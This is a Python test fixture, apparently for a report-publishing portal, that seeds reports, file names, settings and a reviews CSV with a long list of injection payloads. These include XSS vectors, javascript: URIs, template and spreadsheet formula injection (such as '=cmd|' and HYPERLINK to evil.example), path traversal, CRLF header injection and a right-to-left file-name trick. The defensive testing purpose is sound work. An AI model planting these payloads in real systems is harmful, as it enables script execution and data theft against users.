"""Content in which every text tries to be more than text.

One agency for each payload, with reports in all formats that texts can be planted in: text, HTML, Markdown
with front matter, Word. Payloads stand in titles, names, headings, paragraphs, cells, contacts, files' names,
in the lists of agencies and reviews, in the portal's settings and pages.
"""

import html
import io
import json
import sys
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

ROOT = Path(__file__).resolve().parents[2]
sys.path.append(str(ROOT / "Tests/Benchmarks"))

import corpus  # noqa: E402

# Whatever runs sets this.
MARK = "__xss"
RUN = f"window.{MARK}=1"

PAYLOADS = [
    # HTML
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<object data='data:text/html,<script>parent.{MARK}=1</script>'></object>",
    f"<base href='https://evil.example/'>{MARK}",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<style>@import 'https://evil.example/{MARK}.css'</style>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    # Ends of what they may stand in
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea></main></body><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<!--<script>{RUN}",
    # Attributes
    f"\"><script>{RUN}</script>",
    f"'><script>{RUN}</script>",
    f"\" autofocus onfocus=\"{RUN}",
    f"' onmouseover='{RUN}",
    f"x onfocus={RUN} autofocus tabindex=1",
    # Addresses and Markdown
    f"javascript:{RUN}",
    f"[x](javascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"![x](x\" onerror=\"{RUN})",
    f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"//evil.example/{MARK}.js",
    # Scripts and JSON
    f"\";{RUN};//",
    f"';{RUN};//",
    f"${{{RUN}}}",
    f"\\\";{RUN};//",
    f"\u2028{RUN}\u2029",
    f"{{\"__proto__\":{{\"{MARK}\":1}}}}",
    # References that must not be decoded twice
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    # Templates
    f"{{{{{{words}}}}}}{{{{#portal}}}}{MARK}{{{{/portal}}}}{{{{> layout}}}}",
    f"{{{{=<% %>=}}}}<% {MARK} %>",
    # Spreadsheets
    f"=HYPERLINK(\"https://evil.example/{MARK}\",\"x\")",
    f"=cmd|' /C {MARK}'!A0",
    f"+{MARK}+1",
    f"-{MARK}-1",
    f"@SUM({MARK})",
    f"＝{MARK}()",
    # Paths and headers
    f"../../../../{MARK}",
    f"..%2f..%2f{MARK}",
    f"%0d%0aSet-Cookie: {MARK}=1",
    f"{MARK}\r\nSet-Cookie: x=1",
    f"C:\\{MARK}\\con.txt",
    f"{MARK}\u202egnp.exe",
]


def line(payload):
    """The payload where a text ends with its line."""
    return payload.replace("\r", " ").replace("\n", " ")


def poison(report, payload):
    """Puts the payload into every text of the report."""
    report.overview = [
        f"{text}{line(payload)}" for text in report.overview[:2]
    ] + [f"（三）{line(payload)}", line(payload), *report.overview[2:],
         f"联系地址：{line(payload)}；电话：{line(payload)}；网址：{line(payload)}；邮箱：{line(payload)}。"]
    report.problems = [line(payload)] + report.problems
    report.cells["granted"][1] = line(payload)
    report.cells["received"][0] = f"12{line(payload)}"


def markdown(report, payload):
    fields = {"agency": report.agency.name, "year": report.year, "source": line(payload),
              "title": f"{line(payload)}{report.title}"}
    front = "".join(f"{key}: {json.dumps(value, ensure_ascii=False)}\n" for key, value in fields.items())
    rows = "".join("| " + " | ".join([labels[-1]] + [str(n) for n in report.cells[key]]) + " |\n"
                   for key, labels in report.form.rows)
    return (f"---\n{front}---\n# {report.title}\n\n{report.preamble}\n\n## {report.form.sections[0]}\n\n"
            + "\n\n".join(report.overview) + f"\n\n## {report.form.sections[2]}\n\n{rows}\n"
            + f"## {report.form.sections[4]}\n\n" + "\n\n".join(report.problems) + "\n")


def word(report):
    paragraphs = "".join(f"<w:p><w:r><w:t>{escape(printable(text))}</w:t></w:r></w:p>"
                         for text in report.text().splitlines())
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", '<?xml version="1.0" encoding="UTF-8"?>'
                         f'<w:document xmlns:w="{space}"><w:body>{paragraphs}</w:body></w:document>')
    return out.getvalue()


def printable(text):
    """What XML can hold."""
    return "".join(c for c in text if c in "\t\n" or c >= " ")


def file_name(payload, extension):
    """The payload as far as a file can be called so."""
    name = "".join(c for c in payload if c >= " " and c != "/").encode()[:180].decode(errors="ignore")
    return f"{name.lstrip('.')}{extension}"


def write(folder):
    """Makes a content folder of it, and returns it."""
    content = folder / "Content"
    reports = list(corpus.reports(5 * len(PAYLOADS), 5, 1, 1))
    for number, payload in enumerate(PAYLOADS):
        place = content / "reports" / str(number)
        place.mkdir(parents=True)
        own = reports[5 * number:5 * number + 5]
        # The reports of an agency share it.
        own[0].agency.name = f"网{line(payload)}区{own[0].agency.name}"
        poison(own[0], payload)
        for report in own[1:]:
            report.overview = [f"{text}{line(payload)}" for text in report.overview]
        (place / file_name(payload, ".txt")).write_text(own[0].text(), encoding="utf-8", newline="")
        (place / file_name(payload, ".html")).write_text(own[1].html(), encoding="utf-8", newline="")
        raw = own[2].html().replace(html.escape(line(payload)), line(payload))
        (place / file_name(payload, "-raw.html")).write_text(raw, encoding="utf-8", newline="")
        (place / file_name(payload, ".md")).write_text(markdown(own[3], payload), encoding="utf-8", newline="")
        (place / file_name(payload, ".docx")).write_bytes(word(own[4]))
    several = line(PAYLOADS[0] + PAYLOADS[20] + PAYLOADS[14])
    (content / "portal.json").write_text(json.dumps({
        "name": f"门户{several}", "summary": several, "disputes": several,
        "publisher": {"name": several},
        "licence": {"name": several},
        "english": {"name": f"Portal {several}", "summary": several, "disputes": several},
    }), encoding="utf-8")
    (content / "pages").mkdir()
    for page in ("home", "methodology", "data"):
        (content / "pages" / f"{page}.md").write_text("\n\n".join(map(line, PAYLOADS)), encoding="utf-8")
    return content


def review(content, findings):
    """Reviews of some findings, with payloads in every text."""
    rows = ["finding_id,status,reviewer,date,note,reply"]
    for number, finding in enumerate(findings[:3 * len(PAYLOADS)]):
        text = '"' + line(PAYLOADS[number % len(PAYLOADS)]).replace('"', '""') + '"'
        rows.append(f"{finding},{['confirmed', 'explained', 'dismissed'][number % 3]},{text},2024-05-01,{text},{text}")
    (content / "reviews.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
